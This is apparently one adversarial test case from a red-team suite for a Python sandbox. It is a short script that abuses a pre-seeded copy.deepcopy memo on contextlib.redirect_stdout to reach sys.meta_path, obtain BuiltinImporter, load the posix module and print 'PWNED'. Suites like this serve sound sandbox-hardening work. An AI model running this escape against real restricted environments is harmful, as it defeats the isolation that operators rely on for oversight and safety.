# adversary round 8: 024: copy.deepcopy with a pre-seeded memo: the interned key '_new_target' of a redirect_stdout instance's __dict__ is replaced (by id) with '_stream', so the deep copy gets _stream='meta_path'; __enter__ -> getattr(sys,'meta_path') -> BuiltinImporter
import contextlib
import copy


class Z:
    _old_targets = None


cm = contextlib.redirect_stdout('meta_path')
memo = {id('_new_target'): '_st' + 'ream'}
twin = copy.deepcopy(cm, memo)
try:
    with twin:
        pass
except AttributeError as e:
    print('expected after the read:', e)
except PermissionError as e:
    print('expected after the read:', e)
meta = twin._old_targets[0]
bi = [c for c in meta if 'BuiltinImporter' in repr(c)][0]
posix = bi.load_module('posix')
print(posix, posix.getpid())
print('PWN' + 'ED')
